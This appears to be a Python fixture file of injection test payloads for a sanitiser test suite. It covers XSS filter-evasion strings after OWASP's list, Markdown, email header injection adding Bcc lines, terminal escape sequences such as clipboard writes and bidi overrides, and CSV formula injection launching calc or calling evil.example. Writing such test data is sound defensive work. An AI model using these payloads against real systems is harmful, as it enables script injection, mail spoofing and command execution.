# ruff: noqa: E501 (one line for each class)
"""Payloads by class, one or more for each class of lists that others published; the payloads are our own.

HTML: the sections of OWASP's "XSS Filter Evasion Cheat Sheet". MARKDOWN: the sections of the CommonMark specification 0.31
and of GitHub's dialect. HEADERS: CWE-93 and CWE-113 (line breaks), RFC 2047 (encoded words), RFC 5322 (addresses, lengths).
TERMINAL: CWE-150 and the functions of ECMA-48, with Unicode's TR 36 (direction). SHEETS: OWASP's "CSV Injection".

`LISTENER` stands for the address of whoever would notice a request.
"""

from __future__ import annotations

from collections.abc import Mapping

LISTENER = "LISTENER"
"""Replaced by the tests with the address of a real server."""

HTML: Mapping[str, str] = {
    "basic test": "<script src=LISTENER/a></script>",
    "polyglot locator": "'\"-->]]>*/</script></style></title></textarea><img src=LISTENER/b onerror=alert(1)>",
    "malformed a tag": "<a foo=a href=javascript:alert(1) onmouseover=alert(1) autofocus onfocus=alert(1) tabindex=0>x</a>",
    "malformed img tag": "<img \"\"\"><script>alert(1)</script>\">",
    "from character codes": "<img src=x onerror=alert(String.fromCharCode(49))>",
    "src that looks like a domain": "<img src=# onmouseover=alert(1) onerror=alert(1)>",
    "empty src": "<img src= onmouseover=alert(1) onerror=alert(1)>",
    "no src": "<img onmouseover=alert(1) style=position:fixed;inset:0>",
    "on error": "<img src=/nothing onerror=\"alert(1)\">",
    "encoded on error": "<img src=x onerror=\"&#0000097&#0000108&#0000101&#0000114&#0000116(1)\">",
    "decimal references": "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "decimal references without semicolons": "<iframe src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
    "hexadecimal references without semicolons": "<iframe src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    "embedded tab": "<iframe src=\"jav\tascript:alert(1)\">",
    "embedded encoded tab": "<iframe src=\"jav&#x09;ascript:alert(1)\">",
    "embedded line feed": "<iframe src=\"jav&#x0A;ascript:alert(1)\">",
    "embedded carriage return": "<iframe src=\"jav&#x0D;ascript:alert(1)\">",
    "null in a scheme": "<iframe src=java\x00script:alert(1)>",
    "blanks and controls before a scheme": "<iframe src=\" &#14; javascript:alert(1)\">",
    "no letter and no digit": "<script/x src=LISTENER/c></script><body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>",
    "open brackets": "<<script>alert(1)//<</script>",
    "no closing script": "<script src=LISTENER/d?<b>",
    "protocol resolution in script": "<script src=//listener.invalid/e>",
    "half open": "<img src=\"LISTENER/f\" onerror=alert(1)",
    "double open angle brackets": "<iframe src=LISTENER/g <",
    "escaped escapes": "\\\";alert(1);//</script><script>alert(1)</script>",
    "end of title": "</title><script>alert(1)</script>",
    "input image": "<input type=image src=LISTENER/h onerror=alert(1)>",
    "body image": "<body background=LISTENER/i>",
    "img dynsrc": "<img dynsrc=LISTENER/j>",
    "img lowsrc": "<img lowsrc=LISTENER/k>",
    "list style image": "<style>li{list-style-image:url(LISTENER/l)}</style><ul><li>x</ul>",
    "vbscript in an image": "<img src='vbscript:msgbox(1)'>",
    "livescript": "<img src=\"livescript:alert(1)\">",
    "svg": "<svg/onload=alert(1)><image href=LISTENER/m /></svg>",
    "ecmascript 6": "Set.constructor`alert(1)```<script>Set.constructor`alert\\x281\\x29```</script>",
    "body": "<body onload=alert(1)>",
    "event handlers": "<details open ontoggle=alert(1)><video src=LISTENER/n onerror=alert(1)></details>",
    "bgsound": "<bgsound src=LISTENER/o>",
    "ampersand includes": "<br size=\"&{alert(1)}\">",
    "style sheet": "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "remote style sheet": "<link rel=stylesheet href=LISTENER/p.css>",
    "remote style sheet by import": "<style>@import'LISTENER/q.css';</style>",
    "remote style sheet by header": "<meta http-equiv=Link content=\"<LISTENER/r.css>; REL=stylesheet\">",
    "remote style sheet by binding": "<style>body{-moz-binding:url(\"LISTENER/s.xml#x\")}</style>",
    "broken style": "<style>@im\\port'LISTENER/t.css';</style>",
    "style with a comment": "<p style=\"a:expr/*x*/ession(alert(1));background:url(LISTENER/u)\">x</p>",
    "img style": "exp/*<a style='no\\xss:noxss(\"*//*\");background-image:url(LISTENER/v)'>x</a>",
    "style type": "<style type=text/javascript>alert(1)</style>",
    "style background image": "<style>.c{background-image:url(\"LISTENER/w\")}</style><a class=c></a>",
    "style background": "<style>*{background:url(LISTENER/x)}</style>",
    "unknown element with style": "<xss style=\"behavior:url(LISTENER/y.htc);background:url(LISTENER/y)\">x</xss>",
    "local htc": "<xss style=\"behavior: url(xss.htc);\">",
    "us-ascii": "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "meta refresh": "<meta http-equiv=refresh content=\"0;url=LISTENER/z\">",
    "meta refresh to data": "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>alert(1)</script>\">",
    "meta refresh with a parameter": "<meta http-equiv=refresh content=\"0; URL=http://;URL=LISTENER/aa\">",
    "iframe": "<iframe src=LISTENER/ab></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "iframe event": "<iframe src=# onload=alert(1)></iframe>",
    "frame": "<frameset><frame src=LISTENER/ac></frameset>",
    "table": "<table background=LISTENER/ad>",
    "td": "<table><td background=LISTENER/ae>x",
    "div background": "<div style=\"background-image:url(LISTENER/af)\">x</div>",
    "div in escapes": "<div style=\"background-image:\\0075\\0072\\006C\\0028'LISTENER/ag'\\0029\">x</div>",
    "div and more characters": "<div style=\"background-image: url(&#1;LISTENER/ah)\">x</div>",
    "div expression": "<div style=\"width: expression(alert(1));\">x</div>",
    "downlevel-hidden block": "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--x--><img src=LISTENER/ai>",
    "base": "<base href=LISTENER/aj/>",
    "object": "<object data=LISTENER/ak type=text/html></object>",
    "embed": "<embed src=LISTENER/al allowscriptaccess=always>",
    "embed svg": "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">",
    "data island": "<xml id=I><x><c><![CDATA[<img src=\"LISTENER/am]]><![CDATA[\">]]></c></x></xml><span datasrc=#I datafld=c dataformatas=html></span>",
    "local xml": "<xml src=LISTENER/an.xml id=I></xml>",
    "html and time": "<html><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=innerHTML to=\"<script>alert(1)</script>\"></html>",
    "script as an image": "<script src=LISTENER/ao.jpg></script>",
    "server side include": "<!--#exec cmd=\"/bin/echo '<script src=LISTENER/ap></script>'\"-->",
    "php": "<?echo('<scr)';echo('ipt>alert(1)</script>');?>",
    "commands in an image": "<img src=\"LISTENER/aq?command=delete\">",
    "cookie by meta": "<meta http-equiv=Set-Cookie content=\"a=<script>alert(1)</script>\">",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "quote encapsulation": "<script a=\">\" src=LISTENER/ar></script><script =\">\" src=LISTENER/as></script>",
    "attribute, double quotes": "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "attribute, single quotes": "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "attribute, backquotes": "` onmouseover=alert(1) autofocus onfocus=alert(1) x=`",
    "attribute, none": "x onmouseover=alert(1) autofocus onfocus=alert(1)",
    "url as a number": "<a href=http://1113982867/ ping=LISTENER/at>x</a>",
    "url in hexadecimal": "<img src=http://0x7f.0x0.0x0.0x1/au>",
    "url in octal": "<img src=http://0177.0.0.01/av>",
    "url, percent-encoded": "<a href=\"javascript:%61%6c%65%72%74%28%31%29\">x</a>",
    "url without a protocol": "<img src=\"//listener.invalid/aw\">",
    "url with a dot at the end": "<img src=\"http://listener.invalid./ax\">",
    "javascript link": "<a href=\"javascript:document.location='LISTENER/ay'\">x</a>",
    "character escapes": "&lt;script&gt;alert(1)&lt;/script&gt; \\x3cscript\\x3e \\u003cscript\\u003e %3Cscript%3E",
    "escaped twice": "&amp;lt;img src=LISTENER/az onerror=alert(1)&amp;gt;",
    "mathml": "<math><mtext><table><mglyph><style><img src=LISTENER/ba onerror=alert(1)>",
    "template": "<template><img src=LISTENER/bb></template>{{constructor.constructor('alert(1)')()}}${alert(1)}#{7*7}",
    "form": "<form action=LISTENER/bc><button autofocus>x</button></form><isindex action=LISTENER/bd>",
    "prefetch": "<link rel=prefetch href=LISTENER/be><link rel=dns-prefetch href=//listener.invalid>",
    "srcset": "<img srcset=\"LISTENER/bf 1x\"><picture><source srcset=LISTENER/bg></picture>",
}  # fmt: skip

MARKDOWN: Mapping[str, str] = {
    "thematic break": "***", "atx heading": "# x LISTENER", "setext heading": "x\n===", "indented code": "    x",
    "fenced code": "```html\n<img src=LISTENER/a>\n```", "html block 1": "<script>alert(1)</script>", "html block 2": "<!-- x -->",
    "html block 3": "<?x?>", "html block 4": "<!X x>", "html block 5": "<![CDATA[x]]>", "html block 6": "<div>x</div>", "html block 7": "<x-y>x</x-y>",
    "link reference definition": "[x]: javascript:alert(1)\n\n[x]", "paragraph": "x\n\ny", "block quote": "> x", "bullet list": "- x\n- y",
    "ordered list": "1. x", "list after a break": "x\n1) y", "code span": "`x`", "emphasis": "*x* _y_", "strong emphasis": "**x** __y__",
    "inline link": "[x](javascript:alert(1))", "link with a title": "[x](<LISTENER/b> \"t\")", "reference link": "[x][y]", "image": "![x](LISTENER/c.gif)",
    "reference image": "![x][y]", "uri autolink": "<javascript:alert(1)>", "mail autolink": "<a@b.example>", "raw html": "a <b onclick=alert(1)>b</b>",
    "hard break": "x  \ny\\\nz", "soft break": "x\ny", "entity": "&#91;x&#93;&#40;javascript:alert(1)&#41; &lt;b&gt;", "backslash escape": "\\[x](LISTENER/d) \\\\[y](LISTENER/e)",
    "table": "| a | b |\n|---|---|\n| c | d |", "task list": "- [ ] x", "strikethrough": "~~x~~ ~y~", "extended autolink": "www.listener.invalid/f LISTENER/g a@b.example",
    "disallowed raw html": "<textarea><title><style><xmp><iframe><noembed><noframes><plaintext>", "footnote": "x[^1]\n\n[^1]: y", "alert": "> [!NOTE]\n> x", "mathematics": "$`x`$ $$y$$",
    "mention": "@everyone #1", "image in a link": "[![x](LISTENER/h)](LISTENER/i)", "unbalanced": "](LISTENER/j) ) ] [ ( !", "nested": "[[[[[x](a)](b)](c)](d)](e)",
}  # fmt: skip

HEADERS: Mapping[str, str] = {
    "crlf": "x\r\nBcc: e@x.example", "lf": "x\nBcc: e@x.example", "cr": "x\rBcc: e@x.example", "folded": "x\r\n Bcc: e@x.example", "body": "x\r\n\r\n<script>alert(1)</script>",
    "unicode line ends": "x\u2028Bcc: a\u2029Bcc: b\x85Bcc: c", "vertical tab, form feed": "x\x0bBcc: a\x0cBcc: b", "null": "x\x00Bcc: a", "encoded in percents": "x%0d%0aBcc: a",
    "encoded word, q": "=?utf-8?q?x=0D=0ABcc=3A_e=40x.example?=", "encoded word, b": "=?utf-8?b?eA0KQmNjOiBlQHguZXhhbXBsZQ==?=", "encoded word, lf only": "=?us-ascii?Q?x=0ABcc=3A_e=40x.example?=",
    "encoded word, split": "=?utf-8?q?x?= =?utf-8?q?=0D=0ABcc=3Ae=40x.example?=", "encoded word, hidden": "=\u200b?utf-8?q?=0D=0ABcc=3Ae=40x.example?\u200b=",
    "encoded word, odd charset": "=?x-nothing?q?=0D=0ABcc=3Ae?= =?utf-7?q?+AA0ACg-Bcc:?=", "address list": "Evil, a@evil.example, <b@evil.example>", "quotes": "\" <a@evil.example>, \"",
    "comment": "x (a@evil.example\\", "boundary": "--=_d1exampleorg--\r\nContent-Type: text/html", "very long": "x" * 5000, "very long, wide": "\u6f22" * 5000, "lone surrogates": "\ud800x\udfff", "dot line": "x\r\n.\r\nMAIL FROM:<e@x.example>",
}  # fmt: skip

TERMINAL: Mapping[str, str] = {
    "c0": "x\x07\x08\x0c\x0e\x0f", "carriage return": "safe\rEVIL", "delete": "x\x7f\x7f", "c1, 8 bits": "x\x9b31mred\x9b0m \x90x\x9c \x9d0;t\x9c", "c1, 7 bits": "\x1bMx\x1bD\x1bE",
    "csi colour": "\x1b[31mred\x1b[0m", "csi cursor": "\x1b[2J\x1b[1;1H\x1b[9999A", "csi report": "\x1b[6n\x1b[c\x1b[5n", "csi mode": "\x1b[?1049h\x1b[?25l\x1b[4h",
    "osc title": "\x1b]0;evil\x07", "osc link": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "osc clipboard": "\x1b]52;c;ZXZpbA==\x07", "osc file": "\x1b]1337;File=:x\x07", "osc notify": "\x1b]9;x\x07",
    "dcs": "\x1bP$q\"p\x1b\\", "apc": "\x1b_Gx\x1b\\", "pm": "\x1b^x\x1b\\", "sos": "\x1bXx\x1b\\", "reset": "\x1bc", "charset": "\x1b(0qqq\x1b(B", "unfinished": "x\x1b[", "many": "\x1b[" + "9;" * 500 + "m",
    "override": "abc\u202egpj.exe", "isolate": "\u2066x\u2069\u2067y\u2069", "line ends": "x\u2028y\u2029z\x85w", "zero width": "x\u200by\ufeffz", "tags": "x\U000e0041\U000e007f", "markup of rich": "[bold red]x[/] [link=http://evil.example]y[/link]",
}  # fmt: skip

SHEETS: Mapping[str, str] = {
    "equals": "=cmd|' /C calc'!A0", "plus": "+1+cmd|' /C calc'!A0", "minus": "-1+cmd|' /C calc'!A0", "at": "@SUM(1+1)*cmd|' /C calc'!A0", "tab": "\t=1+1", "carriage return": "\r=1+1", "line feed": "\n=1+1",
    "wide": "\uff1d1+1", "wide plus": "\uff0b1", "blank before": "  =1+1", "separator": "x,=1+1", "semicolon": "x;=1+1", "quotes": "\"=1+1\"", "closing quote": "x\",\"=1+1", "link": "=HYPERLINK(\"http://evil.example\",\"x\")", "import": "=IMPORTXML(\"http://evil.example\",\"//a\")", "no-break blank before": "\u00a0=1+1",
}  # fmt: skip

EVERY: Mapping[str, str] = {
    f"{group}: {name}": payload
    for group, payloads in (
        ("html", HTML), ("markdown", MARKDOWN), ("headers", HEADERS), ("terminal", TERMINAL), ("sheets", SHEETS),
    )
    for name, payload in payloads.items()
}  # fmt: skip
